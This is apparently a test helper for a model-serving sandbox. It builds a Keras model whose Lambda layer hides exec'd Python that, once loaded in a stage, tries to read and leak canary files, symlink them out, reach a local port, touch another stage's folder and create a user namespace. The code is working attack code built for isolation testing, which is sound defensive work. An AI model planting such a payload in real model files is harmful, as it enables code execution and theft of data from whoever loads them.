"""Test helper (tf runtime): a Keras model whose Lambda layer tries to escape the stage that loads it.

`python make_keras_lambda_escape.py OUT.keras --marker DIR --canary FILE... --port N` writes a small
model (input x: 4 floats -> Lambda -> Dense 2). Keras 3 stores the Lambda as marshalled bytecode; the
attack is Python source in the lambda's closure, run by `exec` when the layer is called. Once in a stage
process (its argv holds --config; nowhere else, so building the model here is harmless) it tries to:

  - write DIR/escaped on the host,
  - read each canary file, and end the stage with their contents as its `error:` line (so a leak lands in
    the CLI's message and the report; Keras would replace the message of an exception),
  - connect to 127.0.0.1:N and send "escaped",
  - leave out/leak-<i> as a link to each canary (the host would read it when it hashes or publishes),
  - write into its first input bundle,
  - list the repository's folder,
  - list the folder that holds its own stage folder, and read and write in a folder `999/out` there (in a
    runtime's warm container, another stage's),
  - make a user namespace (where kernel exploits start),

and prints what each attempt did, with its capabilities and whether it ran in a fork of a warm worker
(MODELFERRY_PROCESS), as one line, `escape attempts: {json}`, to stderr (the stage's log).
"""

import argparse
from pathlib import Path

import keras

ATTACK = """
import json, os, socket, sys
if "--config" in sys.argv and not hasattr(sys, "escape_tried"):
    sys.escape_tried = True
    argv = sys.argv
    out = argv[argv.index("--out") + 1]
    inputs = [argv[i + 1] for i, word in enumerate(argv) if word == "--in"]
    tried, leaked = {}, []

    def attempt(name, action):
        try:
            tried[name] = "done: " + repr(action())[:200]
        except Exception as exc:
            tried[name] = f"{type(exc).__name__}: {exc}"

    def connect():
        with socket.create_connection(("127.0.0.1", PORT), timeout=3) as sock:
            sock.sendall(b"escaped")

    attempt("marker", lambda: open(os.path.join(MARKER, "escaped"), "w").write("escaped"))
    for i, canary in enumerate(CANARIES):
        attempt(f"canary-{i}", lambda: leaked.append(open(canary).read()))
        attempt(f"link-{i}", lambda: os.symlink(canary, os.path.join(out, f"leak-{i}")))
    attempt("connect", connect)
    attempt("input", lambda: open(os.path.join(inputs[0], "escaped"), "w").write("escaped"))
    attempt("repository", lambda: sorted(os.listdir(REPOSITORY)))
    stages = os.path.dirname(os.path.dirname(os.path.abspath(out)))
    attempt("stages", lambda: sorted(os.listdir(stages)))
    attempt("other stage", lambda: open(os.path.join(stages, "999", "out", "secret")).read())
    attempt("other stage write", lambda: open(os.path.join(stages, "999", "out", "planted"), "w").write("x"))

    def user_namespace():
        import ctypes
        if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) != 0:   # CLONE_NEWUSER
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "made"

    attempt("user namespace", user_namespace)
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    tried["capabilities"] = status["CapEff"].strip() + "/" + status["CapBnd"].strip()
    tried["process"] = os.environ.get("MODELFERRY_PROCESS", "cold")
    print("escape attempts: " + json.dumps(tried, sort_keys=True), file=sys.stderr, flush=True)
    if leaked:
        print("error: leaked " + " ".join(leaked), file=sys.stderr, flush=True)
        os._exit(1)
"""

parser = argparse.ArgumentParser()
parser.add_argument("out", type=Path)
parser.add_argument("--marker", required=True)
parser.add_argument("--canary", action="append", required=True)
parser.add_argument("--port", type=int, required=True)
parser.add_argument("--repository", required=True)
args = parser.parse_args()

source = (
    f"MARKER = {args.marker!r}\nCANARIES = {args.canary!r}\nPORT = {args.port!r}\n"
    f"REPOSITORY = {args.repository!r}\n{ATTACK}"
)
keras.utils.set_random_seed(0)
inp = keras.Input((4,), name="x")


def layer_function(attack: str):
    """`exec(...) or t`: the attack runs (in globals of its own, so its functions see its names), and the
    layer is the identity. The source travels in the lambda's closure (Keras 3.15 stores defaults as a
    JSON list, which its loader then refuses)."""
    return lambda t: exec(attack, {}) or t


hidden = keras.layers.Lambda(layer_function(source), name="escape")(inp)
model = keras.Model(inp, keras.layers.Dense(2, name="y")(hidden))
args.out.parent.mkdir(parents=True, exist_ok=True)
model.save(args.out)
print(f"wrote {args.out}")
